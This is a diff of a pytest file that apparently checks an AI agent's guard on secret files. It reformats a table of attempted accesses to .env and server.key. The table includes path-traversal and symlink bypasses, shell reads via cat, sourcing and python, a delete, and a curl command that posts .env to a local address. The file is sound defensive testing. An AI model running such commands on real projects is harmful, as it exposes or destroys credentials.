@@ -34,8 +34,7 @@ def fill(project: Path) -> None:
 
 
 TOOLS = {
-    "read": Call("read", {"path": ".env"}),
-    "through a link": Call("read", {"path": "link"}),
+    "read": Call("read", {"path": ".env"}), "through a link": Call("read", {"path": "link"}),
     "through a linked folder": Call("read", {"path": "folder/server.key"}),
     "by a way round": Call("read", {"path": "sub/../.env"}),
     "grep in the file": Call("grep", {"pattern": SECRET[:3], "path": ".env"}),
@@ -43,15 +42,10 @@ TOOLS = {
     "copy of the folder": Call("copy_path", {"source": "sub", "destination": "other"}),
     "move": Call("move_path", {"source": "sub/server.key", "destination": "moved.txt"}),
     "edit": Call("edit", {"path": ".env", "old_string": "word", "new_string": "words"}),
-    "delete": Call("delete_path", {"path": ".env"}),
-    "cat": bash("cat .env"),
-    "wildcard": bash("cat sub/*.key"),
-    "input": bash("cat < .env"),
-    "source": bash(". ./.env; echo $word"),
-    "variable": bash('x=.env; cat "$x"'),
-    "code": bash("python3 -c 'print(open(\".env\").read())'"),
-    "upload": bash("curl -s -d @.env http://127.0.0.1:1/"),
-}
+    "delete": Call("delete_path", {"path": ".env"}), "cat": bash("cat .env"), "wildcard": bash("cat sub/*.key"),
+    "input": bash("cat < .env"), "source": bash(". ./.env; echo $word"), "variable": bash('x=.env; cat "$x"'),
+    "code": bash("python3 -c 'print(open(\".env\").read())'"), "upload": bash("curl -s -d @.env http://127.0.0.1:1/"),
+}  # fmt: skip
 
 
 @pytest.mark.parametrize("mode", ["ask", "code", "auto"])
